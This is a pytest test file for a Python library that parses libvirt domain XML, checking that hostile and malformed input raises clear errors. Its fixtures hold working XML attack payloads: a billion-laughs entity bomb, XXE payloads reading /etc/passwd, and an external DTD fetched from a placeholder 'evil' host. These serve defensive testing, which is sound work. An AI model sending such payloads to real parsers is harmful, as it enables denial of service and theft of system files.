"""Hostile and broken input: every case ends in a clear NotADomainXMLError / FTElementError."""

from __future__ import annotations

import time

import pytest

from cuju_libvirt import domain_xml as dx
from cuju_libvirt import fitness as ft
from cuju_libvirt._xml import MAX_XML_BYTES
from cuju_libvirt.errors import FTElementError, NotADomainXMLError

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE domain [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain type='kvm'><name>&lol9;</name></domain>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<domain type='kvm'><name>&xxe;</name></domain>
"""

XXE_NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://198.18.0.1/evil.dtd">
<domain type='kvm'><name>vm</name></domain>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]>
<domain type='kvm'><name>vm</name></domain>
"""

ATTRIBUTE_ENTITY = b"""<!DOCTYPE domain [<!ENTITY p "evil">]>
<domain type='kvm'><name>vm</name><metadata>
<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="&p;"/></metadata></domain>
"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE_FILE, XXE_NETWORK_DTD, PARAMETER_ENTITY, ATTRIBUTE_ENTITY],
    ids=["billion-laughs", "xxe-file", "external-dtd", "parameter-entity", "entity-in-attribute"],
)
@pytest.mark.timeout(10)
def test_doctype_is_refused_before_anything_expands(data: bytes) -> None:
    start = time.monotonic()
    for func in (dx.parse_domain, dx.remove_ft, ft.check_fitness):
        with pytest.raises(NotADomainXMLError, match="DOCTYPE"):
            func(data)
    with pytest.raises(NotADomainXMLError, match="DOCTYPE"):
        dx.set_ft(data, dx.FTSpec.defaults("b"))
    assert time.monotonic() - start < 2


def test_passwd_never_leaks_into_output_or_errors() -> None:
    with pytest.raises(NotADomainXMLError) as info:
        dx.parse_domain(XXE_FILE)
    assert "root:" not in str(info.value)


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        (b"", "not well-formed"),
        (b"   ", "not well-formed"),
        (b"<domain", "not well-formed"),
        (b"<domain><name>x</domain>", "not well-formed"),
        (b"\x00\x01\x02\xff\xfe", "not well-formed"),
        (b"{\"domain\": 1}", "not well-formed"),
        (b"<domain>&undefined;</domain>", "not well-formed"),
        (b"<a/><b/>", "not well-formed"),
        ("<domain>\udcff</domain>", "not well-formed|cannot be read"),
        (b"<network/>", "<network>"),
        (b"<Domain/>", "<Domain>"),
        (b"<x:domain xmlns:x='urn:x'/>", "not <domain>"),
    ],
)
def test_unreadable_input(data: str | bytes, needle: str) -> None:
    with pytest.raises(NotADomainXMLError, match=needle):
        dx.parse_domain(data)


def test_size_cap() -> None:
    padding = b"<!--" + b"x" * (MAX_XML_BYTES) + b"-->"
    data = b"<domain type='kvm'><name>vm</name>" + padding + b"</domain>"
    with pytest.raises(NotADomainXMLError, match="MiB"):
        dx.parse_domain(data)
    # just under the cap is fine (libxml2 limits single text nodes, so use many comments)
    chunk = b"<!--" + b"x" * 1000 + b"-->"
    count = (MAX_XML_BYTES - 100) // len(chunk)
    small = b"<domain type='kvm'><name>vm</name>" + chunk * count + b"</domain>"
    assert MAX_XML_BYTES - len(chunk) < len(small) <= MAX_XML_BYTES
    assert dx.parse_domain(small) is None


@pytest.mark.timeout(20)
def test_deep_nesting_is_refused_not_a_crash() -> None:
    depth = 100_000
    data = b"<domain>" + b"<a>" * depth + b"</a>" * depth + b"</domain>"
    with pytest.raises(NotADomainXMLError):
        dx.parse_domain(data)


def test_encodings() -> None:
    latin = "<?xml version='1.0' encoding='ISO-8859-1'?>\n<domain type='kvm'><name>caf\xe9</name></domain>"
    data = latin.encode("iso-8859-1")
    out = dx.set_ft(data, dx.FTSpec.defaults("b"))
    assert out.startswith(b"<?xml version='1.0' encoding='ISO-8859-1'?>")
    assert b"caf\xe9" in out
    assert dx.parse_domain(out) == dx.FTSpec.defaults("b")
    # a str with an encoding declaration works too (lxml alone refuses it)
    assert dx.parse_domain(dx.set_ft(latin, dx.FTSpec.defaults("b"))) == dx.FTSpec.defaults("b")


@pytest.mark.parametrize(
    "inner",
    [
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b" epoch-ms="-5"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b" epoch-ms="1e3"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b" epoch-ms="0x10"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b" epoch-ms="\uff12\uff10"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b&#10;c"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b" output-commit=""/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.1" peer="b"/>',
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="b"/>'
        '<cuju:ft xmlns:cuju="https://cuju-ft.github.io/libvirt/ft/1.0" peer="c"/>',
    ],
)
def test_invalid_elements_in_a_domain(inner: str) -> None:
    data = f"<domain type='kvm'><name>vm</name><metadata>{inner}</metadata></domain>"
    with pytest.raises(FTElementError) as info:
        dx.parse_domain(data)
    assert info.value.problems
    assert all("fix" in p for p in info.value.problems)
